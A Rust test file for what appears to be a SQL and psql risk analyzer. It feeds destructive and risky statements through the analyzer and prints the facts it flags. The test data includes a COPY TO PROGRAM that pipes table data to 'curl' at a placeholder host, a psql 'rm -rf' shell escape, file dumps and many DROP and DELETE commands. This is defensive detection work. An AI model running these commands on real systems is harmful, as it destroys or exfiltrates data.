use super::*;

fn kinds(f: &[Fact]) -> Vec<&str> {
    f.iter().map(|f| f.kind.as_str()).collect()
}

#[test]
fn smoke() {
    let f = analyze("DROP TABLE users; SELECT 1", Dialect::Postgres);
    eprintln!("{f:#?}");
    assert_eq!(kinds(&f), ["sql.drop"]);
}

#[test]
#[ignore]
fn explore() {
    let cases: &[(&str, Dialect)] = &[
        ("DROP OWNED BY bob CASCADE", Dialect::Postgres),
        ("DROP FOREIGN TABLE IF EXISTS a.b, c", Dialect::Postgres),
        ("DROP SCHEMA s CASCADE; DROP DATABASE d; DROP INDEX i; DROP FUNCTION f(int); DROP EXTENSION e CASCADE; DROP ROLE r; DROP USER u; DROP TYPE t; DROP SEQUENCE s; DROP VIEW v; DROP MATERIALIZED VIEW mv", Dialect::Postgres),
        ("TRUNCATE a, b CASCADE", Dialect::Postgres),
        ("DELETE FROM t WHERE 1=1", Dialect::Postgres),
        ("DELETE FROM t USING u WHERE t.id = u.id", Dialect::Postgres),
        ("UPDATE t SET a = 1 FROM u", Dialect::Postgres),
        ("ALTER TABLE t DROP COLUMN a, DROP COLUMN IF EXISTS b CASCADE, DROP CONSTRAINT c, RENAME TO t2", Dialect::Postgres),
        ("ALTER TABLE t RENAME TO t2", Dialect::Postgres),
        ("COPY t TO PROGRAM 'curl -d @- http://x'", Dialect::Postgres),
        ("COPY (SELECT * FROM t) TO '/tmp/x.csv' WITH (FORMAT csv)", Dialect::Postgres),
        ("COPY t FROM STDIN", Dialect::Postgres),
        ("SELECT * FROM users INTO OUTFILE '/tmp/x'", Dialect::MySql),
        ("SELECT * INTO DUMPFILE '/tmp/x' FROM users", Dialect::MySql),
        ("GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC", Dialect::Postgres),
        ("GRANT SELECT ON t TO Bob, alice", Dialect::Postgres),
        ("ALTER ROLE bob WITH SUPERUSER", Dialect::Postgres),
        ("ALTER USER bob SUPERUSER", Dialect::Postgres),
        ("CREATE ROLE bob SUPERUSER LOGIN", Dialect::Postgres),
        ("CREATE USER bob SUPERUSER", Dialect::Postgres),
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Dialect::Postgres),
        ("EXPLAIN ANALYZE DELETE FROM t", Dialect::Postgres),
        ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", Dialect::Postgres),
        ("EXPLAIN DELETE FROM t", Dialect::Postgres),
        ("PREPARE p AS DELETE FROM t", Dialect::Postgres),
        ("CREATE FUNCTION f() RETURNS void AS $$ DELETE FROM t $$ LANGUAGE sql", Dialect::Postgres),
        ("DO $$ BEGIN DROP TABLE x; END $$", Dialect::Postgres),
        ("SELECT * INTO newt FROM t", Dialect::Postgres),
        ("INSERT INTO notes VALUES ('drop table users')", Dialect::Postgres),
        ("DELETE FROM t;", Dialect::Sqlite),
        ("CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM x; END;", Dialect::Sqlite),
        ("FOO BAR; DROP TABLE users; BAZ", Dialect::Postgres),
        ("DROP TABLE t garbage; DELETE FROM x", Dialect::Postgres),
        ("SELECT 'unterminated; DROP TABLE x", Dialect::Postgres),
        ("DROP TABLE a; SELECT 'unterminated; DROP TABLE x", Dialect::Postgres),
        ("DROP TABLE a;\n  DELETE FROM é WHERE x = 'ü';\n  DROP TABLE b", Dialect::Postgres),
        ("CREATE OR REPLACE TABLE t (a int)", Dialect::DuckDb),
        ("ATTACH 'x.db' AS x", Dialect::DuckDb),
        ("INSTALL httpfs; LOAD httpfs", Dialect::DuckDb),
        ("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM x", Dialect::Postgres),
        ("DELETE FROM t WHERE id IN (SELECT id FROM t)", Dialect::Postgres),
        ("DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id", Dialect::MySql),
        ("RENAME TABLE a TO b", Dialect::MySql),
        ("CREATE USER bob SUPERUSER", Dialect::Postgres),
        ("SELECT * INTO DUMPFILE '/tmp/x' FROM users", Dialect::MySql),
    ];
    for sql in [
        "SELECT 1 \\gset\nDROP TABLE x;",
        "select 1 \\g | cat > out\n\\! rm -rf /tmp/x\n\\!\n",
        "\\copy t to program 'curl -d @- http://x' with csv\n\\copy (DELETE FROM t RETURNING *) to out.csv\n\\copy t from stdin\n",
        "\\i setup.sql\n\\ir 'other file.sql'\nSELECT format('DROP TABLE %I', t) FROM x \\gexec\n",
        "\\set x 1\nDELETE FROM t WHERE id = :id;\nDROP TABLE :\"tbl\";\nSELECT :'v'::text;\nSELECT a::int, arr[1:2] FROM t;",
        "COPY t FROM stdin;\nDROP TABLE x\t1\n\\.\nDROP TABLE y;",
        "SELECT 'a \\! no' AS x; -- \\! not a command\nSELECT $$ \\! nope $$;",
        "\\o |gzip > x.gz\n\\w | cat\n\\dt+\n\\q",
    ] {
        eprintln!("=== psql {sql:?}");
        let a = analyze_psql(sql);
        for f in &a.facts {
            eprintln!("  {} {} [{}..{}] {:?}", f.kind, serde_json::Value::Object(f.attrs.clone()), f.span.start, f.span.end, f.summary);
        }
        for (c, s) in &a.shell_commands {
            eprintln!("  shell {c:?} [{}..{}] {:?}", s.start, s.end, &sql[s.start..s.end]);
        }
        for (c, s) in &a.includes {
            eprintln!("  include {c:?} [{}..{}] {:?}", s.start, s.end, &sql[s.start..s.end]);
        }
    }
    for (sql, d) in cases {
        eprintln!("=== {sql:?} ({d:?})");
        for f in analyze(sql, *d) {
            eprintln!("  {} {} [{}..{}] {:?}", f.kind, serde_json::Value::Object(f.attrs.clone()), f.span.start, f.span.end, f.summary);
        }
    }
}
